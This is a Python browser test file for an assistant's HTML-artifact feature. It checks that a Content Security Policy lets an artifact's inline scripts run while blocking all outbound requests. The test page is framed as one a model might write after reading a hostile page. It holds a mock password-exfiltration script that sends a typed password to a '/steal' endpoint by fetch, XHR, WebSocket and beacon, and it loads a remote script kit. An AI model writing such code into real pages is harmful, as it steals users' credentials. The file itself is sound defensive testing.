"""An artifact in a real headless Chromium: its inline script and style run and its data: image
shows, but nothing it asks of another server (fetch, XHR, WebSocket, beacon, an image, a script,
a style sheet) leaves the browser. The other server is a local page server that records every
request; the control shows the browser can reach it when a page of its own asks."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page

from bruce_bot.domain import SessionKey
from tests.browser.conftest import needs_chromium
from tests.conftest import running_bruce
from tests.fakes.web_server import FakeWebServer
from tests.integration.tools.test_artifacts import Running, artifact_config

pytestmark = needs_chromium

TIMEOUT_MS = 20_000
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8Dw"
    "HwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)


def artifact(other: str) -> str:
    """A page as a model might write one after reading a hostile page: it shows a form and
    tries to send what is typed (and to load a kit) from another server."""
    ws = other.replace("http://", "ws://")
    return f"""<!doctype html><html><head><meta charset="utf-8"><title>Sign in</title>
<script>
// First in the page: the kit's refusals below are reported before the body's script runs.
window.results = {{ violations: [] }};
document.addEventListener("securitypolicyviolation",
  (event) => results.violations.push(event.effectiveDirective));
</script>
<style>#ran {{ color: rgb(1, 2, 3) }}</style>
<link rel="stylesheet" href="{other}/kit.css">
<script src="{other}/kit.js"></script>
</head><body>
<p id="ran">scripts did not run</p>
<img id="local" src="{PIXEL}" alt="">
<img id="remote" src="{other}/pixel.png" alt="">
<input id="password" value="hunter2">
<script>
document.getElementById("ran").textContent = "scripts run";
const typed = document.getElementById("password").value;
fetch("{other}/steal?pw=" + typed).then(() => results.fetch = "sent",
  () => results.fetch = "blocked");
try {{
  const xhr = new XMLHttpRequest();
  xhr.open("GET", "{other}/xhr?pw=" + typed);
  xhr.onerror = () => results.xhr = "blocked";
  xhr.onload = () => results.xhr = "sent";
  xhr.send();
}} catch (error) {{ results.xhr = "blocked"; }}
try {{ new WebSocket("{ws}/socket"); }} catch (error) {{ results.ws = "blocked"; }}
try {{ results.beacon = navigator.sendBeacon("{other}/beacon", typed) ? "queued" : "blocked"; }}
catch (error) {{ results.beacon = "blocked"; }}
const remote = document.getElementById("remote");
const seen = () => results.remote = remote.naturalWidth ? "loaded" : "blocked";
if (remote.complete) seen(); else {{ remote.onload = seen; remote.onerror = seen; }}
</script></body></html>"""


@pytest.fixture
async def other() -> AsyncIterator[FakeWebServer]:
    async with FakeWebServer() as server:
        yield server


@pytest.fixture
async def bruce(tmp_path: Path) -> AsyncIterator[Running]:
    config = artifact_config(tmp_path)
    async with running_bruce(config) as started:
        assert started.stores is not None
        session = await started.stores.sessions.get_or_create(SessionKey("console", "local"))
        yield Running(started, config, session.id)


@pytest.fixture
async def page(browser: Browser) -> AsyncIterator[Page]:
    context = await browser.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    yield await context.new_page()
    await context.close()


async def test_an_artifacts_scripts_run_but_it_reaches_no_other_server(
    page: Page, bruce: Running, other: FakeWebServer
) -> None:
    link, _, _ = await bruce.save_ok(
        filename="signin.html", title="Sign in", content=artifact(other.url)
    )

    await page.goto(link)
    # The violations are reported as events, queued: waited for, on a loaded machine too.
    await page.wait_for_function(
        "window.results && results.fetch && results.xhr && results.remote && "
        "['connect-src', 'img-src', 'script-src-elem', 'style-src-elem']"
        ".every((d) => results.violations.includes(d))"
    )
    results = await page.evaluate("window.results")
    # Nothing the artifact asked for left the browser (a request refused only by CORS would
    # still have arrived here, with the password in its address).
    assert other.requests == []
    assert await page.text_content("#ran") == "scripts run"  # the inline script ran
    color = await page.eval_on_selector("#ran", "node => getComputedStyle(node).color")
    assert color == "rgb(1, 2, 3)"  # and the inline style applied
    assert await page.eval_on_selector("#local", "node => node.naturalWidth") == 1  # data: image
    assert (results["fetch"], results["xhr"], results["remote"]) == ("blocked",) * 3
    assert results["beacon"] == "blocked" or "connect-src" in results["violations"]
    assert {"connect-src", "img-src", "script-src-elem", "style-src-elem"} <= set(
        results["violations"]
    )

    # The control: the same browser reaches the other server when its own page asks.
    await page.goto(f"{other.url}/article")
    assert other.paths()[0] == "/article"  # (then perhaps the browser's own /favicon.ico)
